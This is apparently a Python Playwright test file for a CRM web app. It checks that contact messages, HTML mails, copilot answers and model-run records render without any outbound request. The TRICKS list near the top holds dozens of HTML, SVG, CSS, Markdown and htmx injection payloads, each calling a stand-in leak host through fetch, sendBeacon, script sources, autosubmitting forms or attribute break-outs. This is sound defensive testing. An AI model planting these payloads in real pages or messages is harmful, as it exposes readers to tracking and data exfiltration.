"""The promise: nothing leaks by rendering. What contacts, mails and models write is shown in Chromium, and nothing leaves.

Every fixture comes as a Telegram message, as a mail of HTML, as an answer of the copilot, and as what a model was told and
said in a run; every request of every page is watched.
"""

from datetime import timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from itertools import cycle
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser

from api.cookies import SESSION_COOKIE
from core import clock
from core.db import Database
from core.ids import uuid7
from core.principal import Principal
from core.settings import Settings
from crm.copilot import actions as copilot
from crm.identity.sessions import open_session
from crm.runs.actions import QuietWindow, RunRequest, request_run
from crm.runs.model_calls import CallOutcome, ModelCall, UsageFrom, record_model_calls
from crm.runs.model_exchanges import ExchangeTurn, ModelExchange
from crm.runs.tool_calls import NewToolCall, open_tool_call, settle_tool_call
from tests.support.browser import WIDE, Watch
from tests.support.figures import FIGURE, Record
from tests.support.mail import make_post
from tests.support.site import running_site
from tests.support.world import make_world

# Where everything below wants to go: an address that nobody has, and a name.
AWAY = ("http://203.0.113.7", "//203.0.113.7", "https://leak.example")
TRICKS = (
    '<img src="{away}/x.png">', '<img srcset="{away}/x.png 1x, {away}/y.png 2x">', '<img src=x onerror="fetch(\'{away}/x\')">',
    '<picture><source srcset="{away}/x.webp"><img src="{away}/x.png"></picture>', '<script src="{away}/x.js"></script>',
    "<script>new Image().src='{away}/x'</script>", '<link rel="stylesheet" href="{away}/x.css">',
    '<link rel="prefetch" href="{away}/x"><link rel="preload" as="image" href="{away}/x.png">',
    '<link rel="icon" href="{away}/x.ico">', '<link rel="manifest" href="{away}/x.json">',
    '<style>@import url("{away}/x.css");</style>', '<style>body{{background:url({away}/x.png)}}</style>',
    '<style>@font-face{{font-family:x;src:url({away}/x.woff)}}*{{font-family:x}}</style>',
    '<p style="background-image:url({away}/x.png)">Hello</p>', '<table background="{away}/x.png"><tr><td>x</td></tr></table>',
    '<iframe src="{away}/x"></iframe>', "<iframe srcdoc=\"<img src='{away}/x.png'>\"></iframe>",
    '<object data="{away}/x.svg"></object>', '<embed src="{away}/x.swf">', '<video src="{away}/x.mp4" autoplay></video>',
    '<video poster="{away}/x.png"></video>', '<audio src="{away}/x.mp3" autoplay></audio>',
    '<input type="image" src="{away}/x.png">', '<meta http-equiv="refresh" content="0;url={away}/x">',
    '<base href="{away}/"><img src="x.png">', '<svg><image href="{away}/x.png"/></svg>', '<svg><use href="{away}/x.svg#a"/></svg>',
    '<svg><script href="{away}/x.js"/></svg>', '<svg><feImage href="{away}/x.png"/></svg>',
    '<svg onload="fetch(\'{away}/x\')"></svg>', '<body onload="location=\'{away}/x\'">',
    '<form action="{away}/x"><input name="q" autofocus onfocus="this.form.submit()"></form>',
    '<a href="{away}/x" ping="{away}/ping" autofocus onfocus="this.click()">here</a>',
    '<details open ontoggle="fetch(\'{away}/x\')">x</details>', '<math><maction actiontype="statusline" xlink:href="{away}/x">x</maction></math>',
    "![a picture]({away}/x.png)", "[![a badge]({away}/x.png)]({away}/y)", "![a picture][1]\n\n[1]: {away}/x.png",
    "[click](javascript:fetch('{away}/x'))", "<{away}/x.png>", "{away}/x.png?canary=secret", "```html\n<img src={away}/x.png>\n```",
    "[1] ![]({away}/x.png) [2]", "$\\includegraphics{{{away}/x.png}}$", "{{{{ '<img src={away}/x.png>' | safe }}}}",
    "&lt;img src={away}/x.png&gt;", "<img/src='{away}/x.png'>", "<IMG SRC={away}/x.png>", "<<img src={away}/x.png>",
    '"><img src={away}/x.png>', "' onmouseover='fetch(\"{away}/x\")", "--><img src={away}/x.png><!--", "</textarea><img src={away}/x.png>",
    "</pre><img src={away}/x.png>", "</title><img src={away}/x.png>", '<div hx-get="{away}/x" hx-trigger="load">x</div>',
    '<div hx-ext="sse" sse-connect="{away}/x">x</div>', '<div data-hx-get="/inbox" hx-trigger="load" hx-target="body">x</div>',
    '<template shadowrootmode="open"><img src="{away}/x.png"></template>', "<img src=\"{away}/x.png\u0000\">", "<im\u0000g src={away}/x.png>",
    "<img src=\u2028{away}/x.png>", "\u202e<img src={away}/x.png>", "<a href='file:////203.0.113.7/share/x'>share</a><img src='file:////203.0.113.7/x.png'>",
    '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22{away}/x.png%22/%3E%3C/svg%3E">',
    '<img src="cid:x" style="list-style:url({away}/x.png)">', '<bgsound src="{away}/x.wav">', '<img dynsrc="{away}/x.avi" lowsrc="{away}/x.png">',
    '<xml src="{away}/x.xml"></xml>', '<applet code="x" codebase="{away}/"></applet>', '<frameset><frame src="{away}/x"></frameset>',
    '<track src="{away}/x.vtt" default>', '<button formaction="{away}/x" autofocus>x</button>', '<img src="x" crossorigin onerror="navigator.sendBeacon(\'{away}/x\')">',
    '<marquee onstart="fetch(\'{away}/x\')">x</marquee>', '<style>input[value^="a"]{{background:url({away}/a)}}</style>', '<noscript><img src="{away}/x.png"></noscript>',
    '<!--[if mso]><img src="{away}/x.png"><![endif]-->', '<v:fill src="{away}/x.png"/>', '<a href="{away}/x" target="_blank">{away}/x</a>',
)  # fmt: skip


def _mail(html: str) -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "Eve <eve@prospect.example>", "sales@norrwick.example"
    message["Subject"], message["Date"] = (
        " ".join(html[:60].replace("\0", "").split()),
        format_datetime(clock.now()),
    )
    message["Message-ID"] = f"<{uuid7()}@prospect.example>"
    message["In-Reply-To"] = message["References"] = "<first@prospect.example>"
    message.set_content(html.replace("\0", ""))
    message.add_alternative(f"<html><body>{html}</body></html>", subtype="html")
    return message.as_bytes()


async def test_what_others_write_leads_nowhere_when_it_is_shown(
    chromium: Browser,
    settings: Settings,
    database: Database,
    organization: Principal,
    record_property: Record,
) -> None:
    await _show(chromium, settings, database, organization, record_property, every=20)


@pytest.mark.full
async def test_nothing_that_others_write_leads_anywhere(
    chromium: Browser,
    settings: Settings,
    database: Database,
    organization: Principal,
    record_property: Record,
) -> None:
    await _show(chromium, settings, database, organization, record_property, every=1)


async def _show(
    chromium: Browser,
    settings: Settings,
    database: Database,
    owner: Principal,
    record_property: Record,
    every: int,
) -> None:
    texts = [trick.format(away=away) for trick, away in zip(TRICKS, cycle(AWAY), strict=False)][::every]
    places = await _written(database, owner, texts)
    async with database.transaction(owner, "test") as tx:
        session = await open_session(tx)
    async with running_site(settings) as site:
        context = await chromium.new_context(viewport=WIDE)
        await context.add_cookies([{"name": SESSION_COOKIE, "value": session, "url": site}])
        page = await context.new_page()
        watch = Watch.over(page)
        for place in places:
            answer = await page.goto(f"{site}{place}", wait_until="load")
            assert answer is not None, place
            assert answer.status == 200, place
            await page.wait_for_timeout(300)
            assert urlsplit(page.url).netloc == urlsplit(site).netloc, place
            shown = await page.content()
            # the tree of a run shows no texts until a step is opened, and of some mails nothing is left to be shown
            is_bare = place.startswith("/mails/") or (place.startswith("/runs/") and "step=" not in place)
            assert is_bare or "203.0.113.7" in shown or "leak.example" in shown, place
        await context.close()

    record_property(
        FIGURE,
        f"rendering: {len(texts)} fixtures on {len(places)} pages, {len(watch.outside)} requests leave",
    )
    assert watch.outside == []


async def _written(database: Database, owner: Principal, texts: list[str]) -> list[str]:
    """Bring every text by each way; returns the pages that show them."""
    world = await make_world(database, owner)
    for text in texts:
        await world.receive(text.replace("\0", ""))
    conversation = await world.conversation()
    post = await make_post(database, owner)
    for text in texts:
        await post.receive(_mail(text))
    mails = [message.id for message in await post.messages() if message.conversation_id != conversation.id]
    (thread,) = {message.conversation_id for message in await post.messages()} - {conversation.id}
    clean = [text.replace("\0", "") for text in texts]
    places = [f"/inbox/{id}?folder=all" for id in (conversation.id, thread)]
    async with database.transaction(owner, "test") as tx:
        asked = await copilot.start_chat(tx, "\n\n".join(clean)[:3900])
        await copilot.keep_answer(tx, asked.run_id, "\n\n".join(clean), [])
        run_id = await request_run(
            tx, RunRequest(world.bidi_id, "inbox", conversation.id), QuietWindow(3600, 3600)
        )
        assert run_id is not None
        for number, text in enumerate(clean):
            call = NewToolCall(
                run_id, f"c{number}", "get_contact", "read", {"contact_id": text}, "allow", False
            )
            call_id = await open_tool_call(tx, call)
            await settle_tool_call(tx, call_id, status="done", result={"name": text}, error="", duration_ms=1)
        turns = tuple(ExchangeTurn("user", text) for text in clean)
        said = ModelExchange(turns, (), ExchangeTurn("assistant", "\n".join(clean)))
        answered = ModelCall(
            "draft", "m", 1, CallOutcome.ANSWERED, UsageFrom.NONE, 0, 0, 0, clock.now(), exchange=said
        )
        await record_model_calls(tx, run_id, [answered], keep=timedelta(days=1))
        opened = f"/runs/{run_id}?step={call_id}"
    return [
        *places,
        *(f"/mails/{id}" for id in mails),
        f"/copilot/{asked.chat_id}",
        f"/runs/{run_id}",
        opened,
    ]
